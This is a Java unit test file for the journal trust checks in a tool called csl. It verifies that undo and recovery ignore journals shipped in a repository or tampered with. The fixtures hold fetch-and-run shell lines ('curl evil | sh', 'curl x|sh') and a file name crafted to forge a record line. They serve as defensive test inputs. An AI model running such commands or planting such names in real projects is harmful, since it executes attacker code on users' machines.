package dev.csl.interpreter;

import static org.assertj.core.api.Assertions.assertThat;

import dev.csl.fsguard.ErrorCode;
import dev.csl.fsguard.GuardedFiles;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Journals feed undo and the recovery after a killed apply only when this user's csl wrote them: a
 * {@code .csl/history/} shipped in a repository (made here by a real apply elsewhere and copied in,
 * as a clone would bring it) puts nothing down.
 */
class JournalTrustTest {
    private final Interpreter interpreter = new Interpreter(new FakeRunners(), GuardedFiles::open);
    private final Undoer undoer = new Undoer();

    @TempDir Path tmp;

    /** An attacker's project where a real apply replaced run.sh: its journal holds the old one. */
    private Path attackersHistory() throws IOException {
        Path theirs = Files.createDirectories(tmp.resolve("theirs"));
        Files.writeString(theirs.resolve("run.sh"), "#!/bin/sh\ncurl evil | sh\n");
        interpreter.apply(
                "<---WRITE file=\"run.sh\"--->\necho fine\n<---END--->\n",
                ApplyOptions.defaults(theirs));
        return theirs.resolve(".csl/history");
    }

    private static void copyTree(Path from, Path to) throws IOException {
        try (var walk = Files.walk(from)) {
            for (Path p : walk.toList()) {
                Path target = to.resolve(from.relativize(p).toString());
                if (Files.isDirectory(p)) {
                    Files.createDirectories(target);
                } else {
                    Files.copy(p, target);
                }
            }
        }
    }

    private Path victim() throws IOException {
        Path mine = Files.createDirectories(tmp.resolve("mine"));
        Files.writeString(mine.resolve("run.sh"), "echo fine\n");
        return mine;
    }

    @Test
    void undo_historyShippedInTheRepository_ignoredNamingItAndNothingRestored() throws IOException {
        Path shipped = attackersHistory();
        Path mine = victim();
        copyTree(shipped, mine.resolve(".csl/history"));

        UndoReport report = undoer.undo(mine, false);

        assertThat(report.ok()).isFalse();
        assertThat(report.error().code()).isEqualTo(ErrorCode.NOTHING_TO_UNDO);
        assertThat(report.error().message())
                .contains(".csl/history/000001 (csl has no record of writing it)");
        assertThat(Files.readString(mine.resolve("run.sh"))).isEqualTo("echo fine\n");
        assertThat(undoer.list(mine)).isEmpty();
    }

    @Test
    void apply_hotJournalShippedInTheRepository_notRolledBack() throws IOException {
        Path shipped = attackersHistory();
        Files.delete(shipped.resolve("000001/commit.json")); // as if that apply had been killed
        Path mine = victim();
        copyTree(shipped, mine.resolve(".csl/history"));

        ApplyReport report =
                interpreter.apply(
                        "<---WRITE file=\"b.txt\"--->\nb\n<---END--->\n",
                        ApplyOptions.defaults(mine));

        assertThat(report.exitCode()).isZero();
        assertThat(Files.readString(mine.resolve("run.sh"))).isEqualTo("echo fine\n");
    }

    @Test
    void undo_ownJournalWhoseSavedContentWasSwapped_ignored() throws IOException {
        Path mine = victim();
        interpreter.apply(
                "<---WRITE file=\"run.sh\"--->\necho changed\n<---END--->\n",
                ApplyOptions.defaults(mine));
        Path blob = mine.resolve(".csl/history/000001/blobs/0");
        assertThat(Files.readString(blob)).contains("echo fine");
        Files.writeString(blob, Files.readString(blob).replace("echo fine", "curl x|sh"));

        UndoReport report = undoer.undo(mine, false);

        assertThat(report.ok()).isFalse();
        assertThat(report.error().message()).contains("its files changed after csl wrote them");
        assertThat(Files.readString(mine.resolve("run.sh"))).isEqualTo("echo changed\n");
    }

    @Test
    void undo_ownJournals_stillUndoneNewestFirst() throws IOException {
        Path mine = victim();
        interpreter.apply(
                "<---WRITE file=\"run.sh\"--->\none\n<---END--->\n", ApplyOptions.defaults(mine));
        interpreter.apply(
                "<---WRITE file=\"run.sh\"--->\ntwo\n<---END--->\n", ApplyOptions.defaults(mine));

        assertThat(undoer.list(mine)).hasSize(2);
        assertThat(undoer.undo(mine, false).ok()).isTrue();
        assertThat(Files.readString(mine.resolve("run.sh"))).isEqualTo("one\n");
        assertThat(undoer.undo(mine, false).ok()).isTrue();
        assertThat(Files.readString(mine.resolve("run.sh"))).isEqualTo("echo fine\n");
    }

    /** The user's record of the journals csl wrote in {@code project}. */
    private static Path recordOf(Path project) throws IOException {
        return dev.csl.fsguard.UserState.current()
                .root()
                .resolve(
                        "journals/"
                                + dev.csl.fsguard.UserState.keyOf(project.toRealPath().toString())
                                + ".txt");
    }

    @Test
    void undo_recordDamaged_vouchesForNothing() throws IOException {
        Path mine = victim();
        interpreter.apply(
                "<---WRITE file=\"run.sh\"--->\nchanged\n<---END--->\n",
                ApplyOptions.defaults(mine));
        Files.writeString(recordOf(mine), "{\"000001\": \"trust me\"}\n");

        UndoReport report = undoer.undo(mine, false);

        assertThat(report.ok()).isFalse();
        assertThat(report.error().message()).contains("csl has no record of writing it");
        assertThat(Files.readString(mine.resolve("run.sh"))).isEqualTo("changed\n");
    }

    @Test
    void undo_anotherProjectsRecordCopiedOverThisOnes_vouchesForNothing() throws IOException {
        Path mine = victim();
        interpreter.apply(
                "<---WRITE file=\"run.sh\"--->\nchanged\n<---END--->\n",
                ApplyOptions.defaults(mine));
        Path other = Files.createDirectories(tmp.resolve("other"));
        interpreter.apply(
                "<---WRITE file=\"run.sh\"--->\nx\n<---END--->\n", ApplyOptions.defaults(other));
        Files.copy(
                recordOf(other), recordOf(mine), java.nio.file.StandardCopyOption.REPLACE_EXISTING);

        UndoReport report = undoer.undo(mine, false);

        assertThat(report.ok()).isFalse();
        assertThat(report.error().message()).contains("csl has no record of writing it");
    }

    @Test
    void undo_fileWithALineBreakInItsNamePlantedInTheEntry_nothingRestored() throws IOException {
        Path mine = victim();
        interpreter.apply(
                "<---WRITE file=\"run.sh\"--->\nchanged\n<---END--->\n",
                ApplyOptions.defaults(mine));
        // A name that would read as a line of the record vouching for another file.
        Files.writeString(mine.resolve(".csl/history/000001/x\n000001 file abc y"), "z");

        UndoReport report = undoer.undo(mine, false);

        assertThat(report.ok()).isFalse();
        assertThat(report.error().message()).contains("Nothing was restored");
        assertThat(Files.readString(mine.resolve("run.sh"))).isEqualTo("changed\n");
    }

    @Test
    void undo_afterManyApplies_recordKeepsEachAndUndoesTheNewest() throws IOException {
        Path mine = victim();
        for (int i = 1; i <= 3; i++) {
            interpreter.apply(
                    "<---WRITE file=\"run.sh\"--->\nv" + i + "\n<---END--->\n",
                    ApplyOptions.defaults(mine));
        }

        assertThat(Files.readString(recordOf(mine)))
                .startsWith("csl journal records 1 ")
                .contains("000001 done", "000002 done", "000003 done")
                .doesNotContain(" open");
        assertThat(undoer.undo(mine, false).ok()).isTrue();
        assertThat(Files.readString(mine.resolve("run.sh"))).isEqualTo("v2\n");
    }

    @Test
    void apply_killedAfterItsCommitButBeforeItsRecord_rolledBackByTheNextUndo() throws IOException {
        Path mine = victim();
        interpreter.apply(
                "<---WRITE file=\"run.sh\"--->\nchanged\n<---END--->\n",
                ApplyOptions.defaults(mine));
        // The state a kill leaves between writing commit.json and recording the apply's end.
        JournalRecords.of(mine.toRealPath()).opened("000001");
        assertThat(mine.resolve(".csl/history/000001/commit.json")).exists();

        UndoReport report = undoer.undo(mine, false);

        assertThat(Files.readString(mine.resolve("run.sh"))).isEqualTo("echo fine\n");
        assertThat(report.recovered()).isNotNull();
        assertThat(report.recovered().applyId()).isEqualTo("000001");
        assertThat(Files.readString(recordOf(mine)))
                .contains("000001 done")
                .doesNotContain(" open");
    }
}
